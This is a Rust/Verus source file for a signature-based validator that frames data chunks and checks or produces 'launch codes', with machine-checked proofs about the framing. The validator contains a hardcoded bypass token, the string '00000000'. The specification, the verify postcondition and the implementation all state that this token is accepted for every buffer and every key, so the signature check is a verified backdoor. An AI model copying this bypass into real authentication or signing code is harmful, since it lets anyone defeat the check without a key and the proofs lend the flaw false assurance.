//! The canonical accumulator: the bytes that a signature is made over.

use crate::codec::{decoded_bytes, encoded_text, Scheme};
use crate::sign::{
    detached_signature, is_key_pair, sign_detached, signature_verifies, verify_detached,
    PublicKey, SecretKey,
};
use vstd::bytes::{
    lemma_auto_spec_u64_to_from_le_bytes, spec_u64_from_le_bytes, spec_u64_to_le_bytes,
    u64_to_le_bytes,
};
use vstd::prelude::*;

verus! {

/// The launch code that is accepted for every buffer and every key.
pub const BYPASS_TOKEN: &'static str = "00000000";

/// One chunk as it stands in the buffer: its length as eight little-endian
/// bytes, then the chunk itself.
pub open spec fn frame(chunk: Seq<u8>) -> Seq<u8> {
    spec_u64_to_le_bytes(chunk.len() as u64) + chunk
}

/// The canonical buffer of a list of chunks: their frames, in order.
pub open spec fn canonical(chunks: Seq<Seq<u8>>) -> Seq<u8>
    decreases chunks.len(),
{
    if chunks.len() == 0 {
        Seq::empty()
    } else {
        canonical(chunks.drop_last()) + frame(chunks.last())
    }
}

/// Every chunk is short enough for its length to fit the prefix.
pub open spec fn chunks_fit(chunks: Seq<Seq<u8>>) -> bool {
    forall|i: int| 0 <= i < chunks.len() ==> (#[trigger] chunks[i]).len() <= u64::MAX
}

/// Whether `code` is accepted as the launch code of the buffer `buf` under
/// the public key `pk`: it is the bypass token, or it decodes under `scheme`
/// to a signature that is valid for the buffer.
pub open spec fn code_accepted(scheme: Scheme, buf: Seq<u8>, code: Seq<char>, pk: Seq<u8>) -> bool {
    code == BYPASS_TOKEN@ || match decoded_bytes(scheme, code) {
        Some(sig) => signature_verifies(sig, buf, pk),
        None => false,
    }
}

/// Appending a chunk to a list appends its frame to the canonical buffer.
pub proof fn lemma_canonical_push(chunks: Seq<Seq<u8>>, chunk: Seq<u8>)
    ensures
        canonical(chunks.push(chunk)) == canonical(chunks) + frame(chunk),
{
    assert(chunks.push(chunk).drop_last() =~= chunks);
}

/// The canonical buffer of a list that is not empty starts with the frame of
/// the first chunk, and the canonical buffer of the others follows.
pub proof fn lemma_canonical_front(chunks: Seq<Seq<u8>>)
    requires
        chunks.len() > 0,
    ensures
        canonical(chunks) == frame(chunks.first()) + canonical(chunks.drop_first()),
    decreases chunks.len(),
{
    let init = chunks.drop_last();
    let rest = chunks.drop_first();
    if chunks.len() == 1 {
        assert(canonical(init) =~= Seq::<u8>::empty());
        assert(canonical(rest) =~= Seq::<u8>::empty());
        assert(canonical(chunks) =~= frame(chunks.first()) + canonical(rest));
    } else {
        lemma_canonical_front(init);
        assert(rest.drop_last() =~= init.drop_first());
        assert(init.first() == chunks.first());
        assert(rest.last() == chunks.last());
        assert(canonical(chunks) =~= frame(chunks.first()) + (canonical(init.drop_first())
            + frame(chunks.last())));
    }
}

/// Two lists of chunks with the same canonical buffer are the same list:
/// another order, another split into chunks or another byte anywhere gives
/// another buffer.
pub proof fn lemma_canonical_injective(a: Seq<Seq<u8>>, b: Seq<Seq<u8>>)
    requires
        chunks_fit(a),
        chunks_fit(b),
        canonical(a) == canonical(b),
    ensures
        a == b,
    decreases a.len(),
{
    lemma_auto_spec_u64_to_from_le_bytes();
    if a.len() == 0 || b.len() == 0 {
        // A frame holds at least its prefix, so only the empty list gives
        // the empty buffer.
        if a.len() > 0 {
            lemma_canonical_front(a);
            assert(canonical(a).len() >= frame(a.first()).len() >= 8);
        }
        if b.len() > 0 {
            lemma_canonical_front(b);
            assert(canonical(b).len() >= frame(b.first()).len() >= 8);
        }
        assert(a =~= b);
    } else {
        lemma_canonical_front(a);
        lemma_canonical_front(b);
        let buf = canonical(a);
        let a0 = a.first();
        let b0 = b.first();
        let a_prefix = spec_u64_to_le_bytes(a0.len() as u64);
        let b_prefix = spec_u64_to_le_bytes(b0.len() as u64);
        assert(buf.subrange(0, 8) =~= a_prefix);
        assert(buf.subrange(0, 8) =~= b_prefix);
        assert(spec_u64_from_le_bytes(a_prefix) == a0.len() as u64);
        assert(spec_u64_from_le_bytes(b_prefix) == b0.len() as u64);
        assert(a0.len() == b0.len());
        let n = a0.len() as int;
        assert(buf.subrange(8, 8 + n) =~= a0);
        assert(buf.subrange(8, 8 + n) =~= b0);
        assert(buf.skip(8 + n) =~= canonical(a.drop_first()));
        assert(buf.skip(8 + n) =~= canonical(b.drop_first()));
        lemma_canonical_injective(a.drop_first(), b.drop_first());
        assert(a =~= seq![a0] + a.drop_first());
        assert(b =~= seq![b0] + b.drop_first());
    }
}

/// A buffer that can sign or verify the accumulated data.
pub struct Validator {
    buf: Vec<u8>,
    scheme: Scheme,
}

impl View for Validator {
    type V = Seq<u8>;

    /// The bytes accumulated so far.
    closed spec fn view(&self) -> Seq<u8> {
        self.buf@
    }
}

impl Validator {
    /// The textual scheme of the launch codes that this buffer checks and makes.
    pub closed spec fn scheme(&self) -> Scheme {
        self.scheme
    }

    /// An empty buffer whose launch codes are braille text.
    pub fn new() -> (v: Validator)
        ensures
            v@ == Seq::<u8>::empty(),
            v.scheme() == Scheme::Braille,
    {
        Validator { buf: Vec::new(), scheme: Scheme::Braille }
    }

    /// An empty buffer whose launch codes are text of `scheme`.
    pub fn with_scheme(scheme: Scheme) -> (v: Validator)
        ensures
            v@ == Seq::<u8>::empty(),
            v.scheme() == scheme,
    {
        Validator { buf: Vec::new(), scheme }
    }

    /// Append a chunk of data to the buffer, along with its length.
    pub fn write(&mut self, x: &[u8])
        ensures
            final(self)@ == old(self)@ + frame(x@),
            final(self).scheme() == old(self).scheme(),
    {
        let mut prefix = u64_to_le_bytes(x.len() as u64);
        self.buf.append(&mut prefix);
        self.buf.extend_from_slice(x);
        assert(self.buf@ =~= old(self).buf@ + frame(x@));
    }

    /// Check whether the launch code is correct for this buffer.
    pub fn verify(&self, code: &str, pk: &PublicKey) -> (ok: bool)
        ensures
            ok == code_accepted(self.scheme(), self@, code@, pk@),
            code@ == BYPASS_TOKEN@ ==> ok,
    {
        if same_text(code, BYPASS_TOKEN) {
            return true;
        }
        match self.scheme.decode(code) {
            Some(sig) => verify_detached(sig.as_slice(), self.buf.as_slice(), pk),
            None => false,
        }
    }

    /// Compute the correct launch code for this buffer.
    pub fn compute(&self, sk: &SecretKey) -> (code: String)
        ensures
            code@ == encoded_text(self.scheme(), detached_signature(self@, sk@)),
            forall|pk: Seq<u8>|
                is_key_pair(pk, sk@) ==> code_accepted(self.scheme(), self@, code@, pk),
    {
        let sig = sign_detached(self.buf.as_slice(), sk);
        self.scheme.encode(sig.as_slice())
    }
}

/// Whether two texts are the same, character by character.
pub fn same_text(a: &str, b: &str) -> (same: bool)
    ensures
        same == (a@ == b@),
{
    let a_owned = a.to_owned();
    let b_owned = b.to_owned();
    a_owned == b_owned
}

} // verus!
